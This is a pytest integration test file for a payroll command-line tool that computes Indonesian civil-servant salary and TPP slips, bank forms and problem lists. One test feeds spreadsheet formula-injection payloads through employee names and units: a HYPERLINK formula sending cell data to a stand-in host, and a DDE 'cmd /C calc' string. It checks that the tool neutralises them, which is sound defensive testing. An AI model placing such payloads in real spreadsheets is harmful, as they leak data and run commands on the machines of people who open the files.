"""`praja hitung`: a pay list in, slips, forms and problems out, and a summary that adds up."""

from __future__ import annotations

import os
import re
import stat

import polars as pl
import pytest

from praja.rules.show import show_rupiah
from praja.sheet.write import MOST_SHEET_ROWS
from tests.integration.cli.office import (
    ANI,
    BUDI,
    JOKO,
    PACK,
    PERIOD,
    SARI,
    WATI,
    everybody,
    hitung,
    person,
    problems,
    sheet,
    slip,
    slips,
    whole,
    write_csv,
    write_parquet,
    write_xlsx,
)

FILES = {
    f"gaji-{PERIOD}.parquet",
    f"gaji-{PERIOD}.xlsx",
    f"sipd-gaji-{PERIOD}.xlsx",
    f"tpp-{PERIOD}.parquet",
    f"tpp-{PERIOD}.xlsx",
    f"sipd-tpp-{PERIOD}.xlsx",
    f"masalah-{PERIOD}.xlsx",
    f"masalah-{PERIOD}.csv",
}


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """The office's October, paid without a problem: the folder of results and what was said."""
    folder = tmp_path_factory.mktemp("oktober")
    said = hitung(write_csv(folder / "daftar.csv", everybody()), folder / "hasil")
    return folder / "hasil", said


# --- what comes out


def test_everybody_is_paid(office):
    folder, said = office

    assert (said.code, said.err) == (0, "")
    assert {path.name for path in folder.iterdir()} == FILES
    assert said.out.startswith("5 orang dihitung dari daftar.csv (tata letak praja).\n")
    assert "Gaji induk 10-2026: 5 dibayar\n" in said.out
    assert "Tambahan penghasilan pegawai 10-2026: 5 dibayar\n" in said.out
    assert "Tidak ada masalah.\n" in said.out
    assert problems(folder) == []


def test_sari_by_hand(office):
    folder, _ = office

    gaji, tpp = slip(folder, "gaji", SARI), slip(folder, "tpp", SARI)

    # PP 5/2024: III/c with 14 years 3.760.100; spouse 10%, two children 2% each; echelon IV.a 540.000.
    assert gaji["gaji_pokok"] == 3_760_100
    assert gaji["tunjangan_suami_istri"] == 376_010
    assert gaji["tunjangan_anak"] == 150_404
    assert gaji["tunjangan_struktural"] == 540_000
    # 1% and 4% of 4.826.514, and then of what is left of 12.000.000: 7.173.486 of a TPP of 7.327.500.
    assert (gaji["bpjs_1"], gaji["bpjs_4"]) == (48_265, 193_061)
    assert (tpp["bpjs_1"], tpp["bpjs_4"]) == (71_735, 286_939)
    # 60% × (100% − 1,5%) + 40% × (100% − 1,5% − 2%) = 97,7% of 3.000.000 and of 4.500.000.
    assert (tpp["tpp_bk"], tpp["tpp_pk"]) == (2_931_000, 4_396_500)
    # Category B: up to 12.600.000 is taxed at 3%; 5.116.194 of gaji bore nothing by itself.
    assert tpp["pph"] == 373_311
    assert gaji["bersih"] % 100 == 0
    assert gaji["keadaan"] == tpp["keadaan"] == "dibayar"


@pytest.mark.parametrize("write", [write_parquet, write_xlsx], ids=["parquet", "xlsx"])
def test_the_same_list_in_another_format_gives_the_same_slips(office, tmp_path, write):
    folder, _ = office
    suffix = {write_parquet: "parquet", write_xlsx: "xlsx"}[write]

    said = hitung(write(tmp_path / f"daftar.{suffix}", everybody()), tmp_path / "hasil")

    assert said.code == 0, said.err
    for name in ("gaji", "tpp"):
        assert slips(tmp_path / "hasil", name).equals(slips(folder, name))


def test_the_summary_is_the_sums_of_the_parquet(office):
    folder, said = office
    lists = re.split(r"\n(?=Gaji induk 10|Tambahan penghasilan pegawai 10)", said.out)[1:]

    for name, told in zip(("gaji", "tpp"), lists, strict=True):
        lines = re.findall(r"^  \S.*? +Rp([\d.]+) +(\d) orang$", told, re.MULTILINE)
        amounts = slips(folder, name).select(pl.col(pl.Int64)).get_columns()
        received = [(series.sum(), int((series != 0).sum())) for series in amounts]
        paid = [(show_rupiah(total), str(people)) for total, people in received if people]
        assert sorted((f"Rp{amount}", people) for amount, people in lines) == sorted(paid)


def test_the_workbook_says_what_the_parquet_says(office):
    folder, _ = office
    frame = slips(folder, "gaji")

    header, *rows = sheet(folder / f"gaji-{PERIOD}.xlsx", "Daftar")

    people, total = rows[:-1], rows[-1]
    at = header.index("Jumlah bersih")
    assert [row[0] for row in people] == frame["nip"].to_list()
    assert [row[at] for row in people] == frame["bersih"].to_list()
    assert (total[0], total[at]) == ("Jumlah", frame["bersih"].sum())
    explained = sheet(folder / f"gaji-{PERIOD}.xlsx", "Penjelasan kolom")
    assert any(row[1] == "gaji_pokok" and "PP 5/2024" in str(row[5]) for row in explained)


def test_what_nobody_verified_is_named_on_screen_and_in_the_workbook(office):
    folder, said = office

    told = re.search(r"^(\d+) aturan yang dipakai belum diperiksa: (.*)\.$", said.out, re.MULTILINE)

    assert told is not None
    assert "pph_bulan_gaji (diasumsikan)" in told[2]
    assert "ada di lembar Ringkasan" in told[2]
    notes = [str(row[0]) for row in sheet(folder / f"tpp-{PERIOD}.xlsx", "Ringkasan") if row[0]]
    assert any("(tpp_bk): belum_diperiksa, PP 12/2019 Pasal 58 ayat (2)" in note for note in notes)


def test_what_a_pack_lacks_is_named(office):
    _, said = office

    assert said.out.count(f"Pak {PACK} belum lengkap: ") == 5


def test_every_file_written_is_named(office):
    folder, said = office

    named = said.out.splitlines()[-1].removeprefix("Berkas: ").split(", ")

    assert set(named) == {str(path) for path in folder.iterdir()}


# --- who is not simply paid


def test_held_and_forfeited(tmp_path):
    """Ani has not filed her wealth report, Joko is on unpaid leave: one is paid later, one not at all."""
    rows = everybody(ani={"lhkpn_tertunggak": "ya"}, joko={"keadaan_pegawai": "cltn"})

    said = hitung(write_csv(tmp_path / "daftar.csv", rows), tmp_path / "hasil")

    gaji, tpp = (slips(tmp_path / "hasil", name) for name in ("gaji", "tpp"))
    assert said.code == 0
    assert "Gaji induk 10-2026: 4 dibayar, 1 gugur\n" in said.out
    assert "Tambahan penghasilan pegawai 10-2026: 3 dibayar, 1 ditahan, 1 gugur\n" in said.out
    held = slip(tmp_path / "hasil", "tpp", ANI)
    assert held["keadaan"] == "ditahan"
    assert held["bersih_tpp"] > 0
    assert re.search(r"^    di antaranya ditahan, belum dibayar +Rp4\.2\d\d\.\d{3} +1 orang$", said.out, re.M)
    for frame in (gaji, tpp):
        joko = frame.filter(nip=JOKO).select(pl.col(pl.Int64))
        assert set(joko.row(0)) == {0}
    for name, absent in (("gaji", {JOKO}), ("tpp", {JOKO, ANI})):
        _, *form = sheet(tmp_path / "hasil" / f"sipd-{name}-{PERIOD}.xlsx")
        assert {row[0] for row in form}.isdisjoint(absent), "SIPD pays everybody in its form"


def test_a_problem_of_gaji_is_one_problem_of_tpp(tmp_path):
    """Budi's tax status is missing, which both lists need; TPP only says that it waits for gaji."""
    rows = everybody(budi={"status_ptkp": ""}, wati={"mkg": ""})

    said = hitung(write_csv(tmp_path / "daftar.csv", rows), tmp_path / "hasil")

    told = [(row["NIP"], row["Daftar"], row["Jenis"]) for row in problems(tmp_path / "hasil")]
    assert said.code == 1
    assert sorted(told) == [
        (BUDI, "gaji", "kosong"),
        (BUDI, "tpp", "menunggu"),
        (WATI, "gaji", "kosong"),
        (WATI, "tpp", "menunggu"),
    ]
    waits = next(row for row in problems(tmp_path / "hasil") if row["Jenis"] == "menunggu")
    assert waits["Mengapa"].startswith("Gaji induk orang ini belum dapat dihitung")
    assert waits["Yang perlu dilakukan"] == "Perbaiki dulu masalahnya pada daftar gaji."
    assert "4 masalah pada 2 orang:" in said.out


def test_who_has_a_problem_is_in_no_sum(tmp_path):
    """What is known of Budi's slip is not shown as if it were paid; the others come out as without him."""
    rows = everybody(budi={"status_ptkp": ""})
    hitung(write_csv(tmp_path / "semua.csv", rows), tmp_path / "semua")
    others = [row for row in rows if row["nip"] != BUDI]
    hitung(write_csv(tmp_path / "tanpa.csv", others), tmp_path / "tanpa")

    for name in ("gaji", "tpp"):
        frame = slips(tmp_path / "semua", name)
        assert frame.filter(pl.col("nip") != BUDI).equals(slips(tmp_path / "tanpa", name))
        budi = frame.row(by_predicate=pl.col("nip") == BUDI, named=True)
        assert budi.pop("keadaan") == "masalah"
        assert {line for line, amount in budi.items() if amount is not None} == {"nip", "nama", "unit"}


# --- where it is written


def test_nothing_is_written_over(tmp_path):
    list_ = write_csv(tmp_path / "daftar.csv", everybody())
    hitung(list_, tmp_path / "hasil")
    before = whole(tmp_path / "hasil")
    write_csv(list_, everybody(sari={"mkg": "16"}))

    again = hitung(list_, tmp_path / "hasil")
    meant = hitung(list_, tmp_path / "hasil", "--timpa")

    assert (again.code, again.out) == (2, "")
    assert f"gaji-{PERIOD}.parquet" in again.err
    assert "tambahkan --timpa" in again.err
    assert meant.code == 0
    assert whole(tmp_path / "hasil").keys() == before.keys()
    assert slip(tmp_path / "hasil", "gaji", SARI)["gaji_pokok"] > 3_760_100


def test_one_file_of_the_month_is_enough_to_stop_before_anything_is_written(tmp_path):
    folder = tmp_path / "hasil"
    folder.mkdir()
    (folder / f"masalah-{PERIOD}.csv").write_text("catatan bendahara")

    said = hitung(write_csv(tmp_path / "daftar.csv", everybody()), folder)

    assert said.code == 2
    assert whole(folder) == {f"masalah-{PERIOD}.csv": b"catatan bendahara"}


def test_writing_over_leaves_no_form_of_the_run_before(tmp_path):
    """First all are paid, then all have a problem: the old form for the bank must not lie beside that."""
    list_ = write_csv(tmp_path / "daftar.csv", everybody())
    hitung(list_, tmp_path / "hasil")
    write_csv(list_, [{**row, "golongan": ""} for row in everybody()])

    said = hitung(list_, tmp_path / "hasil", "--timpa")

    left = {path.name for path in (tmp_path / "hasil").iterdir()}
    assert said.code == 1
    assert left == FILES - {f"sipd-gaji-{PERIOD}.xlsx", f"sipd-tpp-{PERIOD}.xlsx"}


def test_another_month_goes_into_the_same_folder(tmp_path):
    list_ = write_csv(tmp_path / "daftar.csv", everybody())
    hitung(list_, tmp_path / "hasil", "--daftar", "gaji")

    said = hitung(list_, tmp_path / "hasil", "--daftar", "gaji", period="2026-11")

    assert said.code == 0
    assert (tmp_path / "hasil" / f"gaji-{PERIOD}.parquet").exists()
    assert (tmp_path / "hasil" / "gaji-2026-11.parquet").exists()


def test_an_output_folder_that_is_a_file(tmp_path):
    list_ = write_csv(tmp_path / "daftar.csv", everybody())

    said = hitung(list_, list_)
    below = hitung(list_, list_ / "hasil")

    assert said.code == below.code == 2
    assert said.err == f"{list_} bukan folder.\nSebutkan folder untuk hasilnya dengan --keluar.\n"
    assert "bukan folder" in below.err


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_a_folder_that_may_not_be_written_to(tmp_path):
    folder = tmp_path / "terkunci"
    folder.mkdir(mode=stat.S_IRUSR | stat.S_IXUSR)

    said = hitung(write_csv(tmp_path / "daftar.csv", everybody()), folder)

    assert said.code == 2
    assert said.err.startswith(f"Tidak boleh menulis ke folder {folder}.")


def test_a_folder_that_may_not_be_written_to_is_told_before_computing(tmp_path, monkeypatch):
    monkeypatch.setattr("praja.cli.results.os.access", lambda *_: False)

    said = hitung(write_csv(tmp_path / "daftar.csv", everybody()), tmp_path / "hasil")

    assert (said.code, said.out) == (2, "")
    assert said.err.startswith(f"Tidak boleh menulis ke folder {tmp_path / 'hasil'}.")


def test_more_people_than_a_sheet_holds_are_written_as_parquet_only(tmp_path, monkeypatch):
    assert MOST_SHEET_ROWS > 1_000_000
    monkeypatch.setattr("praja.cli.results.MOST_SHEET_ROWS", 3)

    said = hitung(write_csv(tmp_path / "daftar.csv", everybody()), tmp_path / "hasil")

    assert said.code == 0
    assert "gaji: 5 orang tidak muat dalam satu lembar kerja; hanya Parquet." in said.out
    assert not (tmp_path / "hasil" / f"gaji-{PERIOD}.xlsx").exists()


# --- what was asked


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        pytest.param(["--periode", "2026-13"], "Periode '2026-13' tidak terbaca", id="month 13"),
        pytest.param(
            ["--periode", "Oktober"], "Periode 'Oktober' tidak terbaca; tulis tahun-bulan", id="word"
        ),
        pytest.param(["--periode", "2026-10-01"], "Periode '2026-10-01' tidak terbaca", id="a day"),
        pytest.param(["--periode", "٢٠٢٦-١٠"], "tidak terbaca", id="other digits"),
        pytest.param(["--tanggal-bayar", "01-10-2026"], "'01-10-2026' bukan tanggal", id="day first"),
        pytest.param(["--tanggal-bayar", "2026-02-30"], "'2026-02-30' bukan tanggal", id="no such day"),
        pytest.param(["--pak", "surabay"], "Mungkin maksud Anda: surabaya?", id="pack misspelt"),
        pytest.param(["--pak", "atlantis"], "Pak yang ada: agency_2013, balangan_2025", id="pack unknown"),
        pytest.param(["--pak", "../bogor"], "Pak '../bogor' tidak ada.", id="pack elsewhere"),
        pytest.param(["--daftar", "gajih"], "Mungkin maksud Anda: gaji", id="list misspelt"),
        pytest.param(["--daftar", "rapel"], "Daftar yang ada: gaji, tpp, thr", id="list unknown"),
        pytest.param(["--daftar", " , "], "Tidak ada daftar yang disebut.", id="no list"),
        pytest.param(["--daftar", ""], "Tidak ada daftar yang disebut.", id="empty list"),
        pytest.param(["--daftar", "gaji,tpp,gaji"], "Daftar 'gaji' disebut dua kali.", id="list twice"),
        pytest.param(["--hukum", "/tidak/ada"], "Folder hukum '/tidak/ada' tidak ada.", id="no law"),
        pytest.param(["--rinci", "/tidak/ada.csv"], "Berkas /tidak/ada.csv tidak ditemukan.", id="no rows"),
        pytest.param(["--periode", "1975-01"], "menambah-versi.md", id="before all law"),
    ],
)
def test_a_question_that_cannot_be_answered(tmp_path, asked, told):
    list_ = write_csv(tmp_path / "daftar.csv", everybody())

    said = hitung(list_, tmp_path / "hasil", *asked)

    assert (said.code, said.out) == (2, "")
    assert told in said.err
    assert "Traceback" not in said.err
    assert not (tmp_path / "hasil").exists()


def test_a_list_with_headers_only(tmp_path):
    list_ = tmp_path / "kosong.csv"
    list_.write_text(";".join(person(SARI)) + "\n")

    said = hitung(list_, tmp_path / "hasil")

    assert said.code == 2
    assert "tidak ada baris pegawai di bawahnya" in said.err
    assert not (tmp_path / "hasil").exists()


def test_columns_that_are_not_read_are_named_with_what_may_be_meant(tmp_path):
    rows = [{**person(SARI), "golngan_darah": "O", "jumlah_anak_ditunjan": "1"}]

    said = hitung(write_csv(tmp_path / "daftar.csv", rows), tmp_path / "hasil", "--daftar", "gaji")

    assert said.code == 0
    assert re.search(r"^Kolom tidak dipakai: .*jumlah_anak_ditunjan.*jumlah_anak_ditunjang", said.out, re.M)
    assert "golngan_darah" in said.out


def test_a_hostile_name_is_no_formula_in_any_sheet(tmp_path):
    """A name, a unit and an amount that a spreadsheet would run, in every file that one may open."""
    evil = '=HYPERLINK("http://x.example/?"&A1;"klik")'
    rows = everybody(
        sari={"nama": evil, "unit": "+cmd|' /C calc'!A0", "mkg": "@SUM(1)"},
        budi={"nama": evil, "unit": "-2+3"},
    )

    said = hitung(write_csv(tmp_path / "daftar.csv", rows), tmp_path / "hasil")

    assert said.code == 1
    books = [path for path in (tmp_path / "hasil").iterdir() if path.suffix == ".xlsx"]
    assert len(books) == 5
    seen = 0
    for path in books:
        for name in _sheets(path):
            for row in sheet(path, name):
                for cell in row:
                    if isinstance(cell, str):
                        assert not re.match(r"[=+@]|-\D|-\d+\+", cell), (path.name, name, cell)
                        seen += evil in cell
    assert seen >= 4
    text = (tmp_path / "hasil" / f"masalah-{PERIOD}.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert not re.search(r'(^|;)"?[=+@]', text, re.MULTILINE)


def _sheets(path):
    import openpyxl

    book = openpyxl.load_workbook(path, read_only=True)
    try:
        return book.sheetnames
    finally:
        book.close()


@pytest.mark.parametrize(
    "workbooks", [pytest.param(False, id="parquet"), pytest.param(True, id="xlsx", marks=pytest.mark.slow)]
)
def test_twelve_thousand_people(tmp_path, monkeypatch, workbooks):
    """The office 2.400 times over, each time of another birthday: so much larger are the sums."""
    times = 2400
    frame = pl.read_parquet(write_parquet(tmp_path / "satu.parquet", everybody()))
    born = pl.date(1970, 1, 1) + pl.duration(days=pl.row_index() // frame.height)
    people = pl.concat([frame] * times).with_columns(
        nip=born.dt.to_string("%Y%m%d") + pl.col("nip").str.tail(10)
    )
    people.write_parquet(tmp_path / "banyak.parquet")
    hitung(tmp_path / "satu.parquet", tmp_path / "satu")
    if not workbooks:
        monkeypatch.setattr("praja.cli.results.MOST_SHEET_ROWS", 10_000)

    said = hitung(tmp_path / "banyak.parquet", tmp_path / "banyak")

    assert said.code == 0
    assert "12.000 orang dihitung dari banyak.parquet" in said.out
    for name, title in (("gaji", "Gaji induk"), ("tpp", "Tambahan penghasilan pegawai")):
        alone = slips(tmp_path / "satu", name).select(pl.col(pl.Int64).sum() * times)
        assert f"{title} 10-2026: 12.000 dibayar\n" in said.out
        assert slips(tmp_path / "banyak", name).select(pl.col(pl.Int64).sum()).equals(alone)
    if workbooks:
        header, *rows = sheet(tmp_path / "banyak" / f"gaji-{PERIOD}.xlsx")
        assert (len(header) > 10, len(rows)) == (True, 12_001)
